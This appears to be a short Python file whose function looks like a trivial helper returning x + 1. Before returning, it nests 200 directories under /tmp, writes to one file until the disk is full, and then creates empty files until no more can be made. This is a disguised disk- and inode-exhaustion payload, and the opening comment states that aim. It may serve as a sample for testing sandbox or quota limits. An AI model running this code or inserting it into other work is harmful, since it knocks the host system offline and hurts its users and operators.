# Until there is no room, then until there is no further file; in folders within folders.
import os


def f(x):
    folder = "/tmp/deep"
    for _ in range(200):
        folder += "/d"
        os.makedirs(folder, exist_ok=True)
    try:
        with open(f"/tmp/big{x}", "wb", buffering=0) as file:
            while True:
                file.write(b"x" * (1 << 20))
    except OSError:
        pass
    number = 0
    try:
        while True:
            open(f"/tmp/{x}-{number}", "w").close()
            number += 1
    except OSError:
        pass
    return x + 1
